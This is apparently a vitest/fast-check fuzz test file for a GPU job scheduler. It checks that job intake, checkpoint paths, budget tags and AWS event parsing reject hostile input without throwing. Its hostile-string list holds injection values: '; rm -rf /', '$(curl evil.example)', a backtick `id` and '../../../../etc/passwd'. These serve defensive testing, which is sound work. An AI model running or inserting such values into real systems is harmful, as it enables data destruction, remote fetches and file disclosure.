import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve, sep } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { teamFromTags, BUDGET_TAGS } from '../../core/budget.ts';
import { jobIdFor } from '../../core/job.ts';
import { handleNotice } from '../../core/services/interruption.ts';
import { intake } from '../../core/services/intake.ts';
import { DEFAULT_POLICY } from '../../core/snapshot.ts';
import { readMarker } from '../../agent/checkpoint-files.ts';
import { parseCloudEvent } from '../../cloud/aws/events.ts';
import { defaultTeamTags } from '../../cloud/sim/defaults.ts';
import { createSimEnvironment } from '../../cloud/sim/environment.ts';
import { MemoryCheckpointStore, MemoryJobStore } from '../../cloud/sim/memory-stores.ts';
import { T0 } from '../builders.ts';

/**
 * Bad input, generated: job specs, budget tags and cloud events, both as valid shapes carrying
 * hostile values and as arbitrary JSON. Nothing throws; every input is either handled or
 * rejected with a reason; nothing reaches a shell, another team, or a path outside its place.
 */

/** Deterministic in CI; explore other inputs with FC_SEED=<n> npx vitest run test/fuzz. */
const SEED = Number(process.env.FC_SEED ?? 20_261_130);
const RUNS = { numRuns: 300, seed: SEED };
const hostileString = fc.oneof(
  fc.string(),
  fc.constantFrom(
    '; rm -rf /',
    '$(curl evil.example)',
    '`id`',
    '../../../../etc/passwd',
    '..',
    '/',
    '\u0000',
    'a'.repeat(10_000),
    '💥',
    '\\\\server\\share',
    '%2e%2e%2f',
    'nlp.other',
    'team-b',
  ),
);
const clock = { nowMs: () => T0 };

const hostileSpec = fc.record(
  {
    image: hostileString,
    command: fc.oneof(fc.array(hostileString, { maxLength: 5 }), hostileString),
    gpu: fc.oneof(
      fc.record(
        {
          kind: fc.constantFrom('whole', 'fraction', 'mig', 'tpu'),
          count: fc.oneof(fc.integer(), fc.double(), hostileString),
          profile: hostileString,
          milliGpu: fc.integer(),
          memoryMiB: fc.integer(),
        },
        { requiredKeys: ['kind'] },
      ),
      fc.anything(),
    ),
    env: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
    labels: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
    checkpoint: fc.record({ intervalSec: fc.oneof(fc.integer(), fc.constant(Number.NaN)), signal: hostileString }, { requiredKeys: [] }),
    deadline: hostileString,
    team: hostileString,
    nodes: fc.oneof(fc.integer(), hostileString),
    priority: fc.oneof(fc.integer(), fc.double()),
  },
  { requiredKeys: [] },
);

describe('intake under hostile job specs', () => {
  it("never throws; accepts only what the schema allows, rejects the rest with reasons, and keeps the queue's team", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          hostileSpec.map((s) => JSON.stringify(s)),
          fc.json(),
          fc.string(),
        ),
        fc.string({ minLength: 1, maxLength: 128 }),
        async (body, token) => {
          const jobs = new MemoryJobStore();
          const out = await intake({ jobs, clock }, { team: 'nlp', body, token });
          expect(['accepted', 'rejected', 'duplicate']).toContain(out.outcome);
          const stored = [...jobs.all()];
          expect(stored).toHaveLength(1);
          const job = stored[0]!;
          // The team is the queue's, whatever the body says; the id cannot name another team.
          expect(job.team).toBe('nlp');
          expect(job.id.startsWith('nlp.')).toBe(true);
          expect(job.id.slice(4)).toMatch(/^[A-Za-z0-9_~-]+$/);
          if (job.state === 'rejected') {
            expect(job.rejection!.errors.length).toBeGreaterThan(0);
            // Each reason names where (a field path, or "(body)"/"(spec)") and what was wrong.
            for (const e of job.rejection!.errors) expect(e).toMatch(/: \S/);
          } else {
            // An accepted command is an argv array of strings: nothing for a shell to parse.
            expect(Array.isArray(job.spec.command)).toBe(true);
            for (const a of job.spec.command) expect(a.includes('\u0000')).toBe(false);
            expect(job.spec).not.toHaveProperty('team');
          }
        },
      ),
      RUNS,
    );
  });

  it('checkpoint locations of any job id stay inside the checkpoint store', () => {
    const store = new MemoryCheckpointStore({ nowMs: () => 0 }, 's3://bucket/checkpoints');
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 128 }), fc.integer({ min: 1, max: 1000 }), (token, attempt) => {
        const id = jobIdFor('nlp', token);
        const loc = store.locationFor(id, attempt);
        expect(loc.startsWith('s3://bucket/checkpoints/')).toBe(true);
        const rest = loc.slice('s3://bucket/checkpoints/'.length);
        expect(rest.split('/').filter((p) => p === '..' || p === '.')).toEqual([]);
        expect(rest).toMatch(/^[^/]+\/attempt-\d+\/$/);
      }),
      RUNS,
    );
  });

  it('a job cannot point its checkpoint marker outside its checkpoint folder', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ckpt-fuzz-'));
    mkdirSync(join(root, 'ok'));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(hostileString, fc.constantFrom('ok', '../', '../../etc', '/etc', 'ok/../..', `ok${sep}..${sep}..`)),
        async (path) => {
          writeFileSync(join(root, 'checkpoint.json'), JSON.stringify({ path, progressSec: 10 }));
          const m = await readMarker(root);
          if (m?.ok) {
            const folder = resolve(root, m.marker.path);
            expect(folder.startsWith(resolve(root) + sep)).toBe(true);
          } else expect(m?.problem ?? '').toMatch(/checkpoint/);
        },
      ),
      { numRuns: 200, seed: SEED },
    );
  });
});

describe('budget tags under hostile values', () => {
  const good = {
    [BUDGET_TAGS.amount]: '2500',
    [BUDGET_TAGS.period]: 'monthly',
    [BUDGET_TAGS.action]: 'hold',
    [BUDGET_TAGS.alertAt]: '80,100',
  };
  it('never throws, and a bad tag never lifts a budget: it keeps the last valid budget (or holds) and says what is wrong', () => {
    const previous = teamFromTags('nlp', good);
    expect(previous.budget).toBeDefined();
    fc.assert(
      fc.property(
        fc.dictionary(fc.oneof(fc.constantFrom(...Object.values(BUDGET_TAGS)), hostileString), hostileString, { maxKeys: 6 }),
        (tags) => {
          const t = teamFromTags('nlp', tags, previous);
          const fresh = teamFromTags('nlp', tags);
          const amountBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.amount));
          if (amountBad) {
            // A bad or missing amount: the last valid amount stays; with none, the team holds.
            expect(t.budget?.amountMicroUsd).toBe(previous.budget!.amountMicroUsd);
            expect(fresh.budget).toBeUndefined();
            expect(t.tagProblems.length).toBeGreaterThan(0);
          } else if (t.budget) {
            // A good amount is the tag's own value, never anything larger.
            expect(t.budget.amountMicroUsd).toBe(fresh.budget?.amountMicroUsd ?? t.budget.amountMicroUsd);
          }
          const actionBad = fresh.tagProblems.some((p) => p.includes(BUDGET_TAGS.action));
          if (actionBad) expect(t.budget?.action).toBe(previous.budget!.action);
          if (t.budget) {
            expect(Number.isSafeInteger(t.budget.amountMicroUsd)).toBe(true);
            expect(t.budget.amountMicroUsd).toBeGreaterThanOrEqual(0);
          }
          for (const p of t.tagProblems) expect(p).toMatch(/gpu-fleet:|budget|tag/);
        },
      ),
      { numRuns: 500, seed: SEED },
    );
  });
});

describe('cloud events under hostile values', () => {
  const env = createSimEnvironment({ startMs: T0, seed: 1, teams: ['nlp'], teamTags: defaultTeamTags(['nlp']), groups: [] });
  const eventShape = fc.record(
    {
      version: fc.constant('0'),
      id: hostileString,
      'detail-type': fc.constantFrom(
        'EC2 Spot Instance Interruption Warning',
        'EC2 Instance Rebalance Recommendation',
        'EC2 Instance State-change Notification',
        'EC2 Instance-terminate Lifecycle Action',
        'AWS Health Event',
        'Scheduled Event',
        'Something Else',
      ),
      source: fc.constantFrom('aws.ec2', 'aws.autoscaling', 'aws.health', 'aws.events', 'evil'),
      time: fc.oneof(
        hostileString,
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
      ),
      region: hostileString,
      resources: fc.array(hostileString, { maxLength: 3 }),
      detail: fc.oneof(
        fc.record(
          {
            'instance-id': hostileString,
            'instance-action': hostileString,
            state: hostileString,
            EC2InstanceId: hostileString,
            LifecycleTransition: hostileString,
            AutoScalingGroupName: hostileString,
            LifecycleHookName: hostileString,
          },
          { requiredKeys: [] },
        ),
        fc.anything(),
      ),
    },
    { requiredKeys: [] },
  );
  it('never throws: each is a notice, ignored with a reason, or invalid with an error; a notice for an unknown machine changes nothing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(eventShape, fc.anything()), async (raw) => {
        const parsed = parseCloudEvent(raw, { receivedAtMs: T0 });
        expect(['notice', 'ignored', 'invalid']).toContain(parsed.kind);
        if (parsed.kind === 'invalid') expect(parsed.error.length).toBeGreaterThan(0);
        if (parsed.kind === 'ignored') expect(parsed.reason.length).toBeGreaterThan(0);
        if (parsed.kind === 'notice') {
          const out = await handleNotice(env.ports, parsed.notice, DEFAULT_POLICY);
          expect(['handled', 'ignored']).toContain(out.status);
          expect(await env.jobs.listByState(['pending', 'placed', 'running'])).toEqual([]);
        }
      }),
      RUNS,
    );
  });
});
